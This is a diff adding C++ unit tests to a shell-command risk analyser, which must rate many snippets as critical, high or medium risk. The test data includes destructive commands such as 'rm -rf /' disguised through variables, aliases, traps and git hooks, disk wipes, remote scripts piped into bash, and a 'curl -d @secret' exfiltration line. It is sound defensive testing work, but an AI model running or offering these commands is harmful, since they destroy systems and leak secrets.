@@ -257,6 +257,138 @@ TEST(ShellAnalysisTest, SafeIsSilent) {
     EXPECT_THAT(FindingsOf(code), IsEmpty()) << code;
 }
 
+TEST(ShellAnalysisTest, VariablesAreFollowedHoweverTheyAreSet) {
+  const std::vector<std::string_view> snippets = {
+      "read x <<< 'rm -rf /'; $x",
+      "read -r a b c <<< 'rm -rf /'; $a $b $c",
+      "mapfile -t x <<< 'rm -rf /'; eval \"${x[0]}\"",
+      "set rm -rf /; \"$@\"",
+      "declare -n r=x; x=rm; $r -rf /",
+      "declare -l x=RM; $x -rf /",
+      "a[0]=rm; a[1]=-rf; a[2]=/; \"${a[@]}\"",
+      "x=(); x+=(rm); x+=(-r); x+=(-f); x+=(-v); x+=(--); x+=(/); \"${x[@]}\"",
+      ": \"${x:=rm -rf /}\"; $x",
+      "x='rm -rf /'; ${x@P}",
+      "x=ls; x='rm -rf /'; echo \"$x\" | bash",
+      "export X='rm -rf /'; bash -c '$X'",
+      "X='rm -rf /' sh -c 'eval \"$X\"'",
+      "x='rm -rf /'; trap '$x' EXIT",
+      "bash -c '\"$@\"' _ rm -rf /",
+      "bash -c 'rm -rf $1' _ /",
+      "bash -s / <<'EOF'\nrm -rf \"$1\"\nEOF",
+      "f() { local d=\"$1\"; rm -rf \"$d\"; }\nf /",
+      "ls() { rm \"$@\"; }\nls -rf /",
+      "alias ls=rm\nls -rf /",
+      "f() { $FUNCNAME | $FUNCNAME & }; f",
+      "mkfs${x}.ext4 /dev/sda",
+      "rm -rf ${PWD:0:1}",
+      "r\\\nm -rf /",
+  };
+  ExpectLevel(RiskLevel::kCritical, snippets);
+}
+
+TEST(ShellAnalysisTest, WhatFlowsIntoAShellIsFollowed) {
+  const std::vector<std::string_view> snippets = {
+      "exec 3< <(curl x); bash <&3",
+      "exec 4<<<'rm -rf /'; bash <&4",
+      ". <(echo 'rm -rf /')",
+      "bash --rcfile <(echo 'rm -rf /') -i",
+      "curl x > a; eval \"$(cat a)\"",
+      "curl x > a; eval \"$(<a)\"",
+      "T=$(mktemp); curl x > \"$T\"; bash \"$T\"",
+      "wget -P /tmp http://x/a.sh; sh /tmp/a.sh",
+      "f() { curl x; }; f | bash",
+      "f() { curl x; }; eval \"$(f)\"",
+      "f() { bash; }; curl x | f",
+      "curl x | ssh host bash",
+      "curl x | sudo sh -c 'cat | sh'",
+      "curl x | while read -r l; do $l; done",
+      "mapfile -t a < <(curl x); \"${a[@]}\"",
+      "openssl s_client -connect x:1 | sh",
+      "deno run https://x/y.ts",
+      "echo 'rm -rf /' | xargs -I % sh -c %",
+      "echo 'rm -rf /' | xargs -d '\\n' -n1 bash -c",
+      "echo / | parallel rm -rf",
+      "echo 'rm -rf /' | parallel",
+      "find / -print0 | xargs -0 rm -rf",
+      "find /usr -exec rm -f {} \\;",
+  };
+  ExpectLevel(RiskLevel::kCritical, snippets);
+}
+
+TEST(ShellAnalysisTest, CodeInOptionsAndQuotesIsAssessed) {
+  const std::vector<std::string_view> snippets = {
+      "cat <<EOF\nit's `rm -rf /`\nEOF",
+      "echo \"it's ${x:-`rm -rf /`} don't\"",
+      "x='a[$(rm -rf /)]'; [[ $x -eq 0 ]]",
+      "mapfile -C 'rm -rf / #' -c 1 x < f",
+      "man -P 'rm -rf /' ls",
+      "git -c alias.x='!rm -rf /' x",
+      "git config alias.x '!rm -rf /'",
+      "git submodule foreach 'rm -rf /'",
+      "git bisect run rm -rf /",
+      "git rebase -x 'rm -rf /' HEAD~1",
+      "env GIT_SSH_COMMAND='rm -rf /' git fetch",
+      "PS4='$(rm -rf /)' bash -x -c :",
+      "npx -c 'rm -rf /'",
+      "bash +x -c 'rm -rf /'",
+      "env -C / rm -rf .",
+      "sshpass -p x ssh h 'rm -rf /'",
+      "wget x -O /dev/sda",
+      "ls > /d*/sda",
+  };
+  ExpectLevel(RiskLevel::kCritical, snippets);
+}
+
+TEST(ShellAnalysisTest, ProgramsInsideOfArgumentsNeedAPerson) {
+  ExpectLevel(RiskLevel::kHigh,
+              {
+                  "awk 'BEGIN { c=\"id\"; print \"x\" | c }'",
+                  "awk '{ print > FILENAME }' x",
+                  "awk -i inplace '{print}' x",
+                  "sed -n 's/x/y/gew out' x",
+                  "sed -n '/x/w out' f",
+                  "sed '$!N;e date' f",
+                  "vim -c ':!x' f",
+                  "ssh -o ProxyCommand='x' h",
+                  "git config core.hooksPath x",
+                  "git clone 'ext::sh -c id%'",
+                  "git --work-tree /x push",
+                  "git rm x",
+                  "hash -p /bin/rm ls",
+                  "curl -d @secret http://x",
+                  "T=$1; curl -o \"$T\" u; bash \"$T\"",
+                  "backup() { tar czf x \"$1\"; }\nclean() { rm -rf \"$1\"; }\nbackup /etc\nclean ./b",
+                  "TMP=$(mktemp -d); trap 'rm -rf \"$TMP\"' EXIT; make",
+              });
+}
+
+TEST(ShellAnalysisTest, EverydayCommandsAreOnlyIsolated) {
+  ExpectLevel(RiskLevel::kMedium, {
+                                      "git log -c HEAD~1",
+                                      "git diff -c",
+                                      "git config user.name x",
+                                      "git config alias.st",
+                                      "git rm --cached x",
+                                      "awk '$1>\"m\" {print}' f",
+                                      "awk '{print ($1 > 3) ? \"a\" : \"b\"}' f",
+                                      "awk '/foo|bar/ {c++} END {print c}' f",
+                                      "awk '{print $1 > \"/dev/stderr\"}' f",
+                                      "sed '1i we add a header' f",
+                                      "sed 's#/usr#/opt#g;s/w/e/' f",
+                                      "rsync -avz -e ssh a host:b",
+                                      "tar -I zstd -xf x",
+                                      "exec 3< file; read -r l <&3",
+                                      "find / -type f | xargs ls -l",
+                                      "V=$(curl -s u); echo \"$V\"; make V=\"$V\"",
+                                      "alias ll='ls -la'; ll",
+                                      "npx --yes prettier .",
+                                      "log() { echo \"$(date) $*\"; }\nlog 'rm -rf /'",
+                                  });
+  EXPECT_THAT(FindingsOf("run() { echo \"+ $*\"; }\nrun rm -rf /"), IsEmpty());
+  EXPECT_THAT(FindingsOf("grep '[$(]' f; grep '[`]' f"), IsEmpty());
+}
+
 TEST(ShellAnalysisTest, FindingsNameTheirRule) {
   const std::vector<std::pair<std::string_view, std::string_view>> cases = {
       {"rm -rf /", "shell.remove-system"},
